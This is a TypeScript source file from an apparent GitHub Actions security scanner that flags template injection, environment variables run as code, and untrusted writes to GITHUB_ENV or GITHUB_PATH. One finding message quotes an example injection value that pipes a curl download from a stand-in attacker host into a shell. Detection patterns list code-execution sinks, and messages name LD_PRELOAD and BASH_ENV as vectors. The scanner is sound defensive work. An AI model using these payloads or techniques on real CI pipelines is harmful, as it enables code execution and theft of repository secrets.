import type { Severity } from '../../signal/schema.js';
import { makeFinding } from '../finding.js';
import { lineOf } from '../util.js';
import type { Control } from './contexts.js';
import { controlOf } from './contexts.js';
import { expressionContexts, findExpressions, pathText } from './expression.js';
import type { RuleContext, TriggerFacts } from './facts.js';
import type { Workflow, WorkflowJob, WorkflowStep } from './workflow.js';
import { envOf, scriptsOf, shellVariablesIn } from './facts.js';
import { downloadEnvWrites } from './download-env.js';
import { stepOutputTaintOf } from './step-output-taint.js';

/**
 * Template injection (gha-template-injection) and environment-file injection (gha-github-env).
 *
 * A `${{ }}` in a `run:` script or a github-script `script:` is pasted into the code before it
 * runs. The expression is parsed, and every context that can become part of its value is checked
 * (`a || ''` is still `a`, `format('{0}', a)` and `toJSON(github.event)` carry `a`); conditions
 * and comparisons that only decide a value are not. Passing the value through `env:` and reading
 * "$VAR" is the safe form and is not reported, unless the script writes that variable into
 * GITHUB_ENV or GITHUB_PATH, which later steps trust.
 */

interface Tainted {
  readonly expression: string;
  readonly contexts: string[];
  readonly control: Control;
}

/** The outsider- or maintainer-written contexts an expression body can expand to. */
export function taintOf(body: string): Tainted | null {
  const candidates = expressionContexts(body);
  const outsider = new Set<string>();
  const maintainer = new Set<string>();
  for (const { path, serialized } of candidates) {
    const control = controlOf(path, serialized);
    if (control === 'outsider') outsider.add(pathText(path));
    else if (control === 'maintainer') maintainer.add(pathText(path));
  }
  if (outsider.size > 0) return { expression: body, contexts: [...outsider], control: 'outsider' };
  if (maintainer.size > 0) return { expression: body, contexts: [...maintainer], control: 'maintainer' };
  return null;
}

/**
 * What `${{ env.NAME }}` expands to when an `env:` of the workflow, job or step binds NAME to
 * outsider-written text (`env: BRANCH: ${{ github.event.workflow_run.head_branch }}`, then
 * `run: echo "${{ env.BRANCH }}"`): the expression pastes that text into the script as surely as
 * the context itself; only "$BRANCH", read by the shell, is the safe form. Outsider text only: a
 * maintainer's input through env: stays as quiet as it was. One level (an env: value cannot read env).
 */
function envTaintOf(body: string, env: ReadonlyMap<string, string>): Tainted | null {
  if (!/\benv\./i.test(body) || env.size === 0) return null;
  const contexts = new Set<string>();
  for (const { path } of expressionContexts(body)) {
    if (path.length !== 2 || path[0]?.toLowerCase() !== 'env') continue;
    const name = (path[1] ?? '').toLowerCase();
    const bound = [...env].find(([key]) => key.toLowerCase() === name);
    if (bound === undefined) continue;
    for (const span of findExpressions(bound[1])) {
      const taint = taintOf(span.body);
      if (taint?.control === 'outsider') for (const c of taint.contexts) contexts.add(`env.${bound[0]} (${c})`);
    }
  }
  return contexts.size > 0 ? { expression: body, contexts: [...contexts], control: 'outsider' } : null;
}

/** The severity of template injection in a workflow or action with these triggers (the ladder in docs/findings.md). */
export function injectionSeverity(ctx: TriggerFacts, control: Control): Severity {
  if (control === 'maintainer') return 'low';
  if (ctx.privileged.length > 0) return 'critical';
  if (ctx.workflow.kind === 'action' || ctx.outsider) return 'high';
  // push, schedule, workflow_dispatch: commit messages of merged PRs still carry outsiders' text.
  return 'medium';
}

/** The triggers a finding names: the privileged ones (with what they grant), or all of them. */
export function triggerText(ctx: TriggerFacts): string {
  if (ctx.workflow.kind === 'action') return 'this composite action (its callers decide the event)';
  return ctx.privileged.length > 0 ? `${ctx.privileged.join(', ')} (with the repository's secrets and a write token)` : ctx.triggers.join(', ') || 'its triggers';
}

export function templateInjectionRules(ctx: RuleContext): void {
  for (const job of ctx.workflow.jobs) {
    job.steps.forEach((step, stepIndex) => {
      for (const script of scriptsOf(step)) {
        const seen = new Set<string>();
        for (const span of findExpressions(script)) {
          const taint = taintOf(span.body) ?? envTaintOf(span.body, envOf(ctx.workflow, job, step)) ?? outputTaint(span.body, ctx.workflow, job, stepIndex);
          if (taint === null || seen.has(span.body)) continue;
          seen.add(span.body);
          const where = `Job ${job.id}${step.name ? `, step "${step.name}"` : ''}`;
          const sink = step.run === script ? 'a run: script' : 'an actions/github-script script';
          ctx.findings.push(
            makeFinding({
              id: 'gha-template-injection',
              severity: injectionSeverity(ctx, taint.control),
              title: `\${{ ${span.body} }} is expanded into ${sink}`,
              detail:
                `${where} pastes ${taint.contexts.join(', ')} into ${sink} before it runs, on ${triggerText(ctx)}. ` +
                (taint.control === 'outsider'
                  ? 'Anyone who opens an issue or PR, comments, or names a branch chooses that text: a value like `a"; curl -sSf https://evil.example | sh; #` becomes code. '
                  : 'Whoever starts the workflow chooses that input, and callers may pass outsiders\' text into it. ') +
                'Fix: move the expression into env: (`env: VALUE: ${{ … }}`) and read "$VALUE" (or process.env.VALUE) in the script.',
              path: ctx.path,
              line: lineOf(ctx.content, span.body),
              subject: `${job.id}:${span.body}`,
            }),
          );
        }
      }
    });
  }
}

/**
 * What `${{ steps.<id>.outputs.<name> }}` (or a `needs.<job>.outputs.<name>` mapped to one) pastes
 * when an earlier step wrote outsider-written text into that output (step-output-taint.ts): the
 * same injection as pasting the context itself, one step later.
 */
function outputTaint(body: string, workflow: Workflow, job: WorkflowJob, stepIndex: number): Tainted | null {
  const contexts = stepOutputTaintOf(body, workflow, job, stepIndex);
  return contexts.length > 0 ? { expression: body, contexts, control: 'outsider' } : null;
}

/** A shell assignment (`CMD="${BODY#/run }"`, `export CMD=$(echo "$BODY" | tr …)`): the name is group 1, the value group 2. */
const SHELL_ASSIGNMENT = /^\s*(?:export\s+|local\s+|declare\s+(?:-\w+\s+)?)?([A-Za-z_]\w{0,60})=(.{0,2000})$/;

/**
 * Where a script runs a variable's text as code, for the names in `names` (a `|`-joined list of
 * shell names): `eval "$X"`, `bash -c "$X"`, `python -c "$X"`, `node -e "$X"`, `source <(echo "$X")`,
 * `echo "$X" | sh`, PowerShell's `Invoke-Expression $env:X`; in github-script, `eval(process.env.X)`,
 * `new Function(process.env.X)`, `execSync(process.env.X)`. Reading "$X" as data is the safe form.
 */
function runsVariableAsCode(names: string): RegExp {
  const v = String.raw`["']?\$(?:\{|env:)?(?:${names})\b`;
  const js = String.raw`process\.env\.(?:${names})\b`;
  return new RegExp(
    [
      String.raw`(?:^|[;&|({\s])eval\s+${v}`,
      String.raw`\b(?:ba|z|da|k)?sh\s+-\w{0,4}c\s+${v}`,
      String.raw`\b(?:python[23]?|node|perl|ruby|pwsh|powershell)\s+(?:-\w{1,10}\s+){0,3}-(?:c|e|Command)\s+${v}`,
      String.raw`\bsource\s+<\(\s*(?:echo|printf)\s+(?:\S{1,40}\s+)?${v}`,
      String.raw`\b(?:echo|printf)\s+(?:-\w{1,4}\s+)?${v}\}?["']?\s*\|\s*(?:ba|z|da|k)?sh\b`,
      String.raw`\b(?:Invoke-Expression|iex)\s+["']?\$env:(?:${names})\b`,
      String.raw`(?<![.\w$])(?:eval|Function|execSync|exec)\s*\(\s*${js}`,
      String.raw`\bnew\s+Function\s*\(\s*${js}`,
    ].join('|'),
  );
}

/** A variable of a step's env: (or a shell variable cut from one) that a script runs as code. */
export interface EnvCodeHit<T> {
  /** The variable run as code. */
  readonly name: string;
  /** Where its text comes from, for the finding (`github.event.comment.body`, `$BODY (…)`). */
  readonly source: string;
  /** What the root env: value carries, as the caller's rootOf named it. */
  readonly root: T;
  /** The script line that runs it, trimmed. */
  readonly line: string;
  readonly sink: 'a run: script' | 'an actions/github-script script';
}

/**
 * Where a step runs an env: variable as code, for the variables whose value `rootOf` says carries
 * text (rootOf reads one `${{ }}` body and returns what it carries, or null). At most one hit a script.
 */
export function envCodeHits<T>(workflow: Workflow, job: WorkflowJob, step: WorkflowStep, rootOf: (body: string) => { readonly text: string; readonly root: T } | null): EnvCodeHit<T>[] {
  const scripts = scriptsOf(step);
  if (scripts.length === 0) return [];
  const tainted = new Map<string, { text: string; root: T }>();
  for (const [name, value] of envOf(workflow, job, step)) {
    if (!/^[A-Za-z_]\w{0,60}$/.test(name)) continue;
    for (const span of findExpressions(value)) {
      const root = rootOf(span.body);
      if (root !== null) tainted.set(name, root);
    }
  }
  if (tainted.size === 0) return [];
  const hits: EnvCodeHit<T>[] = [];
  for (const script of scripts) {
    const lines = script.split('\n').slice(0, 2000);
    // Shell variables cut or copied from a tainted one (`CMD="${BODY#/run }"`), in order, at most 50.
    if (step.run === script) {
      for (const line of lines) {
        if (tainted.size >= 50) break;
        const assignment = SHELL_ASSIGNMENT.exec(line);
        if (assignment === null) continue;
        const from = [...shellVariablesIn(assignment[2] ?? '')].find((name) => tainted.has(name));
        const source = from === undefined ? undefined : tainted.get(from);
        if (source !== undefined) tainted.set(assignment[1]!, { text: `$${from} (${source.text})`, root: source.root });
      }
    }
    const runs = runsVariableAsCode([...tainted.keys()].join('|'));
    for (const line of lines) {
      const hit = runs.exec(line);
      if (hit === null) continue;
      const name = [...tainted.keys()].find((n) => new RegExp(String.raw`\b${n}\b`).test(hit[0])) ?? '';
      const source = tainted.get(name);
      if (source === undefined) continue;
      hits.push({ name, source: source.text, root: source.root, line: line.trim(), sink: step.run === script ? 'a run: script' : 'an actions/github-script script' });
      break;
    }
  }
  return hits;
}

/**
 * The fix for template injection is to pass the text through `env:` and read "$VAR"; a script that
 * then runs that variable as code (`eval "$BODY"`, `bash -c "$CMD"` where `CMD` was cut from
 * `$BODY`, github-script's `eval(process.env.BODY)`) is the same injection: reported as
 * gha-template-injection, on the same ladder.
 */
export function environmentCodeRules(ctx: RuleContext): void {
  for (const job of ctx.workflow.jobs) {
    job.steps.forEach((step, stepIndex) => {
      // Outsider text of the event, or a step output filled with it (step-output-taint.ts).
      const outsider = (body: string) => {
        const taint = taintOf(body) ?? outputTaint(body, ctx.workflow, job, stepIndex);
        return taint?.control === 'outsider' ? { text: taint.contexts.join(', '), root: null } : null;
      };
      for (const hit of envCodeHits(ctx.workflow, job, step, outsider)) {
        const where = `Job ${job.id}${step.name ? `, step "${step.name}"` : ''}`;
        ctx.findings.push(
          makeFinding({
            id: 'gha-template-injection',
            severity: injectionSeverity(ctx, 'outsider'),
            title: `Outsider-written text in $${hit.name} is run as code in ${hit.sink}`,
            detail:
              `${where} passes ${hit.source} through env: (the fix for template injection) and then runs it as code: \`${hit.line.slice(0, 120)}\`, on ${triggerText(ctx)}. ` +
              'Anyone who opens an issue or PR, comments, or names a branch chooses that text, and it runs as a command. Fix: never evaluate the text; match it against a fixed set of commands and run those.',
            path: ctx.path,
            line: lineOf(ctx.content, hit.line),
            subject: `${job.id}:env-code:${hit.name}:${hit.line}`,
          }),
        );
      }
    });
  }
}

const ENV_FILE = /\$(?:\{|env:)?(GITHUB_ENV|GITHUB_PATH)\b/;

/**
 * A run: script that writes outsider-written text (through env: or directly) into GITHUB_ENV or
 * GITHUB_PATH; or a server's whole answer (download-env.ts): medium, high on a privileged trigger,
 * where the variables it sets reach the repository's secrets.
 */
export function githubEnvRules(ctx: RuleContext): void {
  for (const job of ctx.workflow.jobs) {
    for (const step of job.steps) {
      if (!step.run || !ENV_FILE.test(step.run)) continue;
      for (const write of downloadEnvWrites(step.run)) {
        if (write.outsider === true) {
          ctx.findings.push(
            makeFinding({
              id: 'gha-github-env',
              severity: ctx.privileged.length > 0 ? 'critical' : 'high',
              title: `Outsider-written text read with gh is written into ${write.file}`,
              detail:
                `Job ${job.id}${step.name ? `, step "${step.name}"` : ''}: ${write.how} (\`${write.line.slice(0, 160)}\`), on ${triggerText(ctx)}. ` +
                `Whoever writes that issue, pull request, comment or commit chooses the text, and a line break in it adds ${write.file === 'GITHUB_PATH' ? 'directories searched ahead of the tools' : 'variables such as LD_PRELOAD, NODE_OPTIONS or BASH_ENV'} for every later step of the job${ctx.privileged.length > 0 ? ", with the repository's secrets" : ''}. ` +
                'Fix: do not put the text into environment files; pass it to the steps that need it through a file or a step output, or write it in a `NAME<<$DELIM` block with a generated delimiter.',
              path: ctx.path,
              line: lineOf(ctx.content, write.anchor),
              subject: `${job.id}:${write.file}:gh:${write.line}`,
            }),
          );
          continue;
        }
        ctx.findings.push(
          makeFinding({
            id: 'gha-github-env',
            // A file of the PR's head on a privileged trigger: its author, any outsider, chooses the variables next to the secrets.
            severity: write.fromHead === true && ctx.privileged.length > 0 ? 'critical' : write.oneValue === true ? (ctx.privileged.length > 0 ? 'medium' : 'low') : ctx.privileged.length > 0 ? 'high' : 'medium',
            title: write.fromHead === true ? `A file of the pull request's head is ${write.ran === true ? 'run and its output ' : ''}written into ${write.file}` : write.ran === true ? `A downloaded script's output is written into ${write.file}` : `A download's answer is written into ${write.file}`,
            detail:
              `Job ${job.id}${step.name ? `, step "${step.name}"` : ''}: ${write.how} (\`${write.line.slice(0, 160)}\`), on ${triggerText(ctx)}. ` +
              `${write.fromHead === true ? "The pull request's author writes that file, and so" : 'Whoever answers that request (the host, its CDN, anyone on a plain-HTTP path)'} chooses ${write.file === 'GITHUB_PATH' ? 'directories searched ahead of the tools' : 'variables'} for every later step of the job: a line break adds LD_PRELOAD, NODE_OPTIONS or BASH_ENV${ctx.privileged.length > 0 ? ", with the repository's secrets" : ''}. ` +
              'Fix: write only the field you need (`jq -r .tag_name`, `cut`, `head -n1`), under a name you choose, or pin the file and check its checksum.',
            path: ctx.path,
            line: lineOf(ctx.content, write.anchor),
            subject: `${job.id}:${write.file}:download:${write.line}`,
          }),
        );
      }
      const env = envOf(ctx.workflow, job, step);
      for (const line of step.run.split('\n')) {
        const target = ENV_FILE.exec(line);
        if (target === null) continue;
        const sources: string[] = [];
        for (const name of shellVariablesIn(line)) {
          const value = env.get(name);
          if (value === undefined) continue;
          for (const span of findExpressions(value)) {
            const taint = taintOf(span.body);
            if (taint?.control === 'outsider') sources.push(`$${name} (${taint.contexts.join(', ')})`);
          }
        }
        for (const span of findExpressions(line)) {
          const taint = taintOf(span.body);
          if (taint?.control === 'outsider') sources.push(taint.contexts.join(', '));
        }
        if (sources.length === 0) continue;
        const file = target[1]!;
        ctx.findings.push(
          makeFinding({
            id: 'gha-github-env',
            severity: ctx.privileged.length > 0 ? 'critical' : 'high',
            title: `Outsider-written text is written into ${file}`,
            detail:
              `Job ${job.id} writes ${sources.join(', ')} into ${file}. A value with a newline adds its own variables ` +
              `(LD_PRELOAD, NODE_OPTIONS, BASH_ENV) or PATH entries, and every later step runs with them${ctx.privileged.length > 0 ? ` on ${ctx.privileged.join(', ')}, with the repository's secrets` : ''}. ` +
              'Fix: do not put untrusted text into environment files; pass it to the steps that need it through env: or step outputs, validated first.',
            path: ctx.path,
            line: lineOf(ctx.content, line.trim()),
            subject: `${job.id}:${file}:${line.trim()}`,
          }),
        );
      }
    }
  }
}
